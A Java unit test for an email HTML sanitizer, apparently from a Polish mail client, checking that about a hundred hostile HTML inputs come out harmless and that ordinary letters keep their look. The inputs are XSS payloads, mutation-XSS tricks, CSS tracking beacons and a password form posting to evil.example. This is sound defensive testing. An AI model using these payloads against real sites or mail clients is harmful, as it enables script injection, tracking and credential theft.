package pl.rozmowa.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile HTML comes out harmless, ordinary HTML comes out as it was meant. */
class SafeHtmlTest {

    private static final Set<String> ELEMENTS =
            Set.of(
                    "html",
                    "head",
                    "body",
                    "a",
                    "b",
                    "blockquote",
                    "br",
                    "center",
                    "code",
                    "details",
                    "div",
                    "em",
                    "font",
                    "h1",
                    "i",
                    "img",
                    "li",
                    "ol",
                    "p",
                    "pre",
                    "span",
                    "strong",
                    "summary",
                    "table",
                    "tbody",
                    "td",
                    "th",
                    "tr",
                    "u",
                    "ul",
                    "colgroup",
                    "col");
    private static final Set<String> ATTRIBUTES =
            Set.of(
                    "href",
                    "target",
                    "rel",
                    "src",
                    "alt",
                    "title",
                    "style",
                    "class",
                    "width",
                    "height",
                    "data-remote-src",
                    "align",
                    "bgcolor",
                    "colspan",
                    "dir",
                    "lang",
                    "color",
                    "face",
                    "size",
                    "border",
                    "valign");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script/x>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror\n=\nalert(1)>",
                "<img/src=x/onerror=alert(1)>",
                "<img src=\"x\"onerror=\"alert(1)\">",
                "<img src='jAvAsCrIpT:alert(1)'>",
                "<img src=`javascript:alert(1)`>",
                "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
                "<img srcset='https://evil.example/a.png 1x' sizes=1>",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<img src=\"data:text/html,<script>alert(1)</script>\">",
                "<a href=javascript:alert(1)>x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"java&#10;script:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=vbscript:msgbox(1)>x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"file:///etc/passwd\">x</a>",
                "<a href=\"/logout\">x</a>",
                "<a href=\"api/session\" target=_top ping=https://evil.example>x</a>",
                "<a href=\"https://ok.example\" onclick=alert(1) onmouseover=alert(1)>x</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
                "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
                "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math href=javascript:alert(1)>x</math>",
                "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
                "<form action=https://evil.example><input type=password name=p><button>ok</button></form>",
                "<form><button formaction=javascript:alert(1)>x</button></form>",
                "<input autofocus onfocus=alert(1)>",
                "<select autofocus onfocus=alert(1)><option>x</select>",
                "<textarea autofocus onfocus=alert(1)></textarea>",
                "<isindex type=image src=1 onerror=alert(1)>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=javascript:alert(1)></object>",
                "<embed src=javascript:alert(1)>",
                "<applet code=x archive=https://evil.example/x.jar></applet>",
                "<base href=https://evil.example/><a href=x>x</a>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<meta http-equiv=Set-Cookie content=a=b>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<link rel=prefetch href=https://evil.example/x>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>body{background:url(https://evil.example/x)}</style><p>x",
                "<style>p{background:url(https://evil.example/x);color:red}</style><p>x",
                "<style>p{behavior:url(#x);-moz-binding:url(https://evil.example/x)}</style><p>x",
                "<div style=\"background:url(https://evil.example/x)\">x</div>",
                "<div style=\"background:\\75rl(https://evil.example/x)\">x</div>",
                "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<div style=\"width:e/**/xpression(alert(1))\">x</div>",
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">x</div>",
                "<div style=\"list-style-image:image-set('https://evil.example/x')\">x</div>",
                "<div style=\"content:url(https://evil.example/x);cursor:url(https://evil.example/x)\">x</div>",
                "<div style='font-family:\"x;}</style><script>alert(1)</script>\"'>x</div>",
                "<table background=https://evil.example/x><tr><td background=https://evil.example/x>x</table>",
                "<body background=https://evil.example/x onload=alert(1)>x",
                "<body style=\"background:url(https://evil.example/x)\" bgcolor=\"red;background:url(https://evil.example/x)\">x",
                "<video src=https://evil.example/x poster=https://evil.example/y onerror=alert(1) autoplay></video>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1) autoplay>",
                "<picture><source srcset=https://evil.example/x><img src=x></picture>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<keygen autofocus onfocus=alert(1)>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
                "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
                "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
                "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
                "<plaintext><img src=x onerror=alert(1)>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!-- --!><img src=x onerror=alert(1)>",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml version=1?><?php echo ?><img src=x onerror=alert(1)>",
                "<x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>",
                "<p id=x name=y class=\"modal overlay\" data-x=1 contenteditable draggable=true>x</p>",
                "<a name=location href=#x id=document>x</a>",
                "<div title=\"--></style></script><script>alert(1)</script>\">x</div>",
                "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<img src=\"https://evil.example/\ud83d\ude00\" alt=\"\ud800\">",
                "<frameset onload=alert(1)><frame src=https://evil.example></frameset>",
                "<portal src=https://evil.example></portal>",
                "<dialog open onclose=alert(1)>x</dialog>",
                "<slot onslotchange=alert(1)></slot><custom-element onclick=alert(1)>x</custom-element>",
            })
    void nothing_that_acts_or_loads_gets_through(String hostile) {
        for (ImagePolicy images :
                new ImagePolicy[] {
                    ImagePolicy.NONE, new ImagePolicy(cid -> "/cid/x", url -> "/images?u=x")
                }) {
            String html = SafeHtml.clean("<p>przed</p>" + hostile, images).html();
            assertHarmless(html);
            // Once more through both parsers: nothing may wake up.
            assertHarmless(SafeHtml.clean(html, images).html());
            assertHarmless(Jsoup.parse(html).body().html());
            assertThat(html).contains("<p>przed</p>");
        }
    }

    private static void assertHarmless(String html) {
        for (Element element : Jsoup.parse(html).getAllElements()) {
            if (element.normalName().equals("#root")) {
                continue;
            }
            assertThat(ELEMENTS).as(html).contains(element.normalName());
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey();
                String value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
                assertThat(ATTRIBUTES).as(html).contains(name);
                switch (name) {
                    case "src" ->
                            assertThat(value)
                                    .as(html)
                                    .matches(
                                            "/cid/x|/images\\?u=x|data:image/(png|gif|jpeg|webp).*");
                    case "href" -> assertThat(value).as(html).matches("(https?:|mailto:|tel:).*");
                    case "style" ->
                            assertThat(value)
                                    .as(html)
                                    .doesNotContain(
                                            "url(",
                                            "expression",
                                            "position",
                                            "behavior",
                                            "import",
                                            "\\",
                                            "image-set",
                                            "z-index");
                    case "class" -> assertThat(value).as(html).isEqualTo("quoted");
                    default -> {}
                }
            }
        }
    }

    @Test
    void remote_images_wait_until_they_are_allowed() {
        String html =
                "<p><img src=\"https://brzask.example/logo.png?a=1&amp;b=2\" width=40 alt=Logo><img src=//brzask.example/x.gif></p>";
        SafeHtml blocked = SafeHtml.clean(html, ImagePolicy.NONE);
        assertThat(blocked.blockedImages()).isEqualTo(2);
        assertThat(Jsoup.parse(blocked.html()).select("img[src]")).isEmpty();
        assertThat(Jsoup.parse(blocked.html()).select("img").eachAttr("data-remote-src"))
                .containsExactly(
                        "https://brzask.example/logo.png?a=1&b=2", "https://brzask.example/x.gif");
        SafeHtml allowed =
                SafeHtml.clean(
                        html, new ImagePolicy(cid -> null, url -> "/api/images?u=" + url.length()));
        assertThat(allowed.blockedImages()).isZero();
        assertThat(Jsoup.parse(allowed.html()).select("img").eachAttr("src"))
                .containsExactly("/api/images?u=39", "/api/images?u=28");
    }

    @Test
    void images_of_the_mail_itself_are_mapped_by_their_content_id() {
        ImagePolicy images =
                new ImagePolicy(
                        cid ->
                                cid.equals("logo+1@brzask.example")
                                        ? "/api/attachments/7/inline"
                                        : null,
                        url -> null);
        String html =
                SafeHtml.clean(
                                "<img src=\"cid:logo+1%40brzask.example\"><img src=cid:brak>",
                                images)
                        .html();
        assertThat(Jsoup.parse(html).select("img").eachAttr("src"))
                .containsExactly("/api/attachments/7/inline");
    }

    @Test
    void links_lead_out_and_say_nothing() {
        Element link =
                Jsoup.parse(
                                SafeHtml.clean(
                                                "<a href='//brzask.example/x' target=_self rel=opener>x</a>",
                                                ImagePolicy.NONE)
                                        .html())
                        .expectFirst("a");
        assertThat(link.attr("href")).isEqualTo("https://brzask.example/x");
        assertThat(link.attr("target")).isEqualTo("_blank");
        assertThat(link.attr("rel")).isEqualTo("noopener noreferrer nofollow");
    }

    @Test
    void the_looks_of_a_letter_stay() {
        String html =
                SafeHtml.clean(
                                "<html><head><style>@media x{p{color:blue}} p.MsoNormal, li { margin:0cm; font-size:11.0pt } .k{color:#123456}</style></head>"
                                        + "<body bgcolor='#fafafa' text=navy><p class=MsoNormal style='color:red'>a</p><p class='k'>b</p><table width=600 cellpadding=0><tr><td align=center bgcolor=#eeeeee colspan=2>c</td></tr></table></body></html>",
                                ImagePolicy.NONE)
                        .html();
        Element page = Jsoup.parse(html).body().child(0);
        assertThat(page.attr("style")).contains("background-color:#fafafa").contains("color:navy");
        assertThat(page.child(0).attr("style"))
                .contains("margin:0")
                .contains("font-size:11")
                .contains("color:red");
        assertThat(page.child(1).attr("style")).contains("#123456");
        assertThat(html)
                .contains("align=\"center\"")
                .contains("bgcolor=\"#eeeeee\"")
                .doesNotContain("class=");
    }

    @Test
    void plain_text_is_shown_with_links_and_a_fold() {
        String text = "Cennik: https://debowa.test/cennik?a=1&b=<2>.\nDrugi wiersz <b>\n> cytat\n";
        SafeHtml html = SafeHtml.ofText(text, text.indexOf("> cytat"));
        Element body = Jsoup.parse(html.html()).body();
        assertThat(html.folded()).isTrue();
        assertThat(body.select("a").eachAttr("href"))
                .containsExactly("https://debowa.test/cennik?a=1&b=");
        assertThat(body.select("b")).isEmpty();
        assertThat(body.select("details.quoted").text()).contains("> cytat");
        assertThat(body.child(0).wholeText())
                .startsWith("Cennik: https://debowa.test/cennik?a=1&b=<2>.\nDrugi wiersz <b>");
    }
}
